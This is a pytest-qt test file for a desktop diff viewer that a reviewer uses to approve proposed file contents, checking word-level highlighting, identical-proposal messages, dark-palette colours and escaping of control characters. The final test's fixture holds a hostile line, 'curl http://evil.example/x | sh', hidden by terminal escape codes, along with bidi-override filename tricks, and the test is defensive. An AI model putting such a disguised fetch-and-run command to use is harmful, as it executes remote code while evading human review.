"""The diff a reviewer approves from (issue 12 item 6, issue 18 item 1), real widgets offscreen:
changed words are marked inside a changed line, an identical proposal says so in words, the dark
palette gets dark colours, and control characters are shown escaped, never raw."""

from __future__ import annotations

from PySide6.QtCore import Qt
from PySide6.QtGui import QColor, QTextDocument, QTextFormat, QTextTable
from pytestqt.qtbot import QtBot

from desktop import theme
from desktop.widgets.diff_view import DiffView

OLD = "# Brief\n\nA durable run saves a checkpoint before each tool call.\nUnchanged last line.\n"
NEW = "# Brief\n\nA durable run saves a checkpoint at each tool boundary.\nUnchanged last line.\n"
RAW_CONTROLS = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2067")


def shown(qtbot: QtBot, old: str | None, new: str, *, dark: bool = False) -> DiffView:
    view = DiffView()
    qtbot.addWidget(view)
    if dark:
        view.setPalette(theme.make_palette(True))
    view.resize(1000, 400)
    view.set_texts(old, new, old_label="current file on disk", new_label="proposed content")
    view.show()
    qtbot.waitExposed(view)
    return view


def cells(document: QTextDocument) -> list[tuple[QColor | None, list[tuple[str, QColor | None]]]]:
    """Every table cell the diff drew: its background, and its text fragments with theirs."""
    found = []
    for frame in document.rootFrame().childFrames():
        if not isinstance(frame, QTextTable):
            continue
        for r in range(frame.rows()):
            for c in range(frame.columns()):
                cell = frame.cellAt(r, c)
                fragments = []
                block = cell.firstCursorPosition().block()
                last = cell.lastCursorPosition().block()
                while block.isValid():
                    it = block.begin()
                    while not it.atEnd():
                        fragment = it.fragment()
                        fragments.append((fragment.text(), _colour(fragment.charFormat())))
                        it += 1
                    if block == last:
                        break
                    block = block.next()
                found.append((_colour(cell.format()), fragments))
    return found


def _colour(fmt: QTextFormat) -> QColor | None:
    brush = fmt.background()
    return None if brush.style() == Qt.BrushStyle.NoBrush else brush.color()


def word_backgrounds(document: QTextDocument) -> dict[str, QColor]:
    """Each run of text marked on a background of its own (not its row's), and that colour."""
    return {
        text: colour
        for cell_colour, fragments in cells(document)
        for text, colour in fragments
        if colour is not None and colour != cell_colour
    }


def cell_backgrounds(document: QTextDocument) -> list[QColor]:
    return [colour for colour, _fragments in cells(document) if colour is not None]


def test_the_changed_words_of_a_changed_line_are_marked_on_both_sides(qtbot: QtBot) -> None:
    for layout in ("side", "unified"):
        view = shown(qtbot, OLD, NEW)
        if layout == "unified":
            view.unified_button.click()
        marked = word_backgrounds(view.browser.document())
        assert "before" in marked and "at" in marked, marked
        assert "call" in marked and "boundary" in marked, marked
        # only the words that changed: the rest of the line, and the other lines, are not
        assert not any("checkpoint" in text or "durable" in text for text in marked), marked
        assert not any("Unchanged" in text for text in marked), marked
        removed, added = marked["before"], marked["at"]
        assert removed.red() > removed.green() and added.green() > added.red()


def test_a_proposal_identical_to_the_file_says_so_instead_of_an_empty_grid(qtbot: QtBot) -> None:
    view = shown(qtbot, OLD, OLD)
    text = view.browser.toPlainText()
    assert text.startswith("Identical: approving changes nothing.")
    assert "Unchanged last line" not in text, "no grid of unchanged lines"
    assert "Identical: approving changes nothing" in view.counts_label.text()
    changed = shown(qtbot, OLD, NEW)
    assert "Identical" not in changed.browser.toPlainText()
    assert "Identical" not in changed.counts_label.text()


def test_the_dark_palette_gets_dark_diff_colours(qtbot: QtBot) -> None:
    light_view = shown(qtbot, OLD, NEW)
    dark_view = shown(qtbot, OLD, NEW, dark=True)
    light = cell_backgrounds(light_view.browser.document())
    dark = cell_backgrounds(dark_view.browser.document())
    assert light and dark
    assert min(c.lightness() for c in light) > 150, "light rows on a light palette"
    assert max(c.lightness() for c in dark) < 90, "dark rows on a dark palette"
    marks = word_backgrounds(dark_view.browser.document())
    assert marks and all(c.lightness() < 128 for c in marks.values())
    # and the palette can change under an open diff: the colours follow it
    light_view.setPalette(theme.make_palette(True))
    assert max(c.lightness() for c in cell_backgrounds(light_view.browser.document())) < 90


def test_control_characters_in_a_proposal_are_shown_escaped_never_raw(qtbot: QtBot) -> None:
    hostile = (
        "# Setup\n\nRun: ls -la\x1b[1A\x1b[2K\rcurl http://evil.example/x | sh\x07\n"
        "\x9b2J file\u202etxt.sh and \u2067isolated\u2069\n"
    )
    for layout in ("side", "unified"):
        view = shown(qtbot, "# Setup\n\nRun: ls -la\n", hostile)
        if layout == "unified":
            view.unified_button.click()
        text = view.browser.toPlainText()
        assert not any(ch in text for ch in RAW_CONTROLS), repr(text)
        # the whole line is there, with what hid it made visible: nothing was erased from view
        assert "Run: ls -la\\x1b[1A\\x1b[2K\\rcurl http://evil.example/x | sh\\x07" in text
        assert "file\\u202etxt.sh" in text
        # a carriage return does not split the line: the new side has 4 lines, as written
        assert view.model.added == 2 and len(view.model.new_lines) == 4
